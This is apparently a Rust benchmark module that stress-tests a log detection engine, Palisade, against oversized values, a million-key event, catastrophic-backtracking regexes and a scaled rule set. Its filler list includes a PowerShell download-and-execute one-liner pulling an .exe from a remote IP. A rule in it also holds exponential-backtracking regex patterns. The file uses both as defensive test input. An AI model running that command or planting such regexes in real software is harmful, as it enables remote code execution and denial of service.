//! What hostile input costs, held against limits: a value as long as an event may be, more keys than an
//! event may have, an expression that would backtrack, ten times the rules there are.
//!
//! Each record is judged a few times in one run; the time of a run on an empty input is taken off.

use std::fmt::Write as _;
use std::fs;
use std::path::{Path, PathBuf};

use crate::Places;
use crate::corpus::{self, RuleSet};
use crate::measure::{Usage, measure};
use crate::replay::{Logsource, replay};

/// Seconds that one event with a long value may take.
const VALUE_S: f64 = 0.050;
/// Seconds that a record with [`KEYS`] keys may take.
const KEYS_S: f64 = 0.100;
/// Seconds and MiB that loading [`RULES`] rules may take.
const LOAD_S: f64 = 3.0;
const LOAD_MIB: f64 = 350.0;

/// Bytes of a long value: with its key just below what an event may have.
const VALUE: usize = 1024 * 1024 - 200;
const KEYS: usize = 1_000_000;
const RULES: usize = 30_000;
/// How often a record is judged in one run.
const TIMES: u16 = 4;

/// Fields that many rules ask for.
const FIELDS: &[&str] = &[
    "CommandLine",
    "ScriptBlockText",
    "Image",
    "operationName",
    "c-uri",
    "message",
];

/// What values are filled with: nothing that is looked for, beginnings of it, needles, text that is folded.
const FILLINGS: &[&str] = &[
    "a",
    "/microsoft.compute/virtualmachines/write ",
    "powershell -enc IEX(New-Object Net.WebClient).DownloadString('http://1.1.1.1:80/x.exe') && cmd /c ",
    "Ünïcode \u{212a} ",
    "\\u0061\\\\x ",
];

/// A rule whose expressions cost others exponential time.
const BACKTRACKS: &str = "title: T
logsource:
    product: windows
detection:
    a:
        CommandLine|re:
            - '^(a+)+$'
            - '(a|a?)+b$'
            - '(x+x+)+y'
    condition: a
";

/// Options of `limits`.
#[derive(Debug, clap::Args)]
pub(crate) struct Args {
    /// The program that is measured: a release build of Palisade.
    #[arg(long, value_name = "PROGRAM")]
    palisade: PathBuf,
    /// The processor that all commands run on.
    #[arg(long, default_value_t = 0, value_name = "NUMBER")]
    pin: usize,
    #[command(flatten)]
    places: Places,
}

/// Runs everything, prints, and says whether all limits hold.
///
/// # Errors
/// When a command fails.
pub(crate) fn execute(args: &Args) -> anyhow::Result<bool> {
    let cache = args.places.cache()?;
    let work = tempfile::tempdir_in(&cache)?;
    let bench = Bench {
        args,
        work: work.path(),
    };
    let full = corpus::folder(RuleSet::Full, &args.places.archive(), &cache)?;
    let mut holds = true;
    let mut slowest: (f64, String) = (0.0, String::new());
    for field in FIELDS {
        for filling in FILLINGS {
            let seconds = bench.record(&full, &long_value(field, filling))?;
            if seconds > slowest.0 {
                slowest = (seconds, format!("{field} full of `{filling}`"));
            }
        }
    }
    let (seconds, what) = slowest;
    holds &= told(
        &format!("1 MiB against all rules, slowest: {what}"),
        seconds,
        VALUE_S,
    );

    let backtracks = work.path().join("backtracks.yml");
    fs::write(&backtracks, BACKTRACKS)?;
    let seconds = bench.record(&backtracks, &long_value("CommandLine", "a"))?;
    holds &= told("expressions that would backtrack", seconds, VALUE_S);

    let seconds = bench.record(&full, &many_keys())?;
    holds &= told("a record with 1,000,000 keys", seconds, KEYS_S);

    let many = corpus::folder(RuleSet::Scaled(RULES), &args.places.archive(), &cache)?;
    let load = bench.run(&many, "")?;
    holds &= told("loading 30,000 rules", load.cpu_s, LOAD_S);
    let fits = load.peak_mib <= LOAD_MIB;
    let (style, verdict) = verdict(fits);
    anstream::println!(
        "{:8.1} MiB, at most {LOAD_MIB:.0}  {style}{verdict}{style:#}  the same",
        load.peak_mib
    );
    Ok(holds && fits)
}

fn verdict(holds: bool) -> (anstyle::Style, &'static str) {
    if holds {
        (crate::GREEN, "holds")
    } else {
        (crate::RED, "FAILS")
    }
}

/// Prints a line and says whether its limit holds.
fn told(what: &str, seconds: f64, limit: f64) -> bool {
    let holds = seconds <= limit;
    let (style, verdict) = verdict(holds);
    anstream::println!(
        "{:9.1} ms, at most {:5.0}  {style}{verdict}{style:#}  {what}",
        seconds * 1_000.0,
        limit * 1_000.0
    );
    holds
}

struct Bench<'a> {
    args: &'a Args,
    work: &'a Path,
}

impl Bench<'_> {
    /// Seconds of processor time that one record takes.
    fn record(&self, rules: &Path, record: &str) -> anyhow::Result<f64> {
        let load = self.run(rules, "{}\n")?;
        let lines = format!("{record}\n").repeat(usize::from(TIMES)) + "{}\n";
        let whole = self.run(rules, &lines)?;
        Ok((whole.cpu_s - load.cpu_s).max(0.0) / f64::from(TIMES))
    }

    fn run(&self, rules: &Path, input: &str) -> anyhow::Result<Usage> {
        let file = self.work.join("input.ndjson");
        fs::write(&file, input)?;
        let command = replay(&self.args.palisade, Logsource::Any, rules, &file);
        measure(&command, Some(self.args.pin), &self.work.join("alerts"))
    }
}

/// An event whose `field` is full of `filling`.
fn long_value(field: &str, filling: &str) -> String {
    let value = filling.repeat(VALUE / filling.len());
    format!(r#"{{"{field}":"{value}"}}"#)
}

/// An event of many members.
fn many_keys() -> String {
    let mut event = String::from("{");
    for number in 0..KEYS {
        write!(event, r#""k{number}":0,"#).expect("a String takes all text");
    }
    event.push_str(r#""last":1}"#);
    event
}
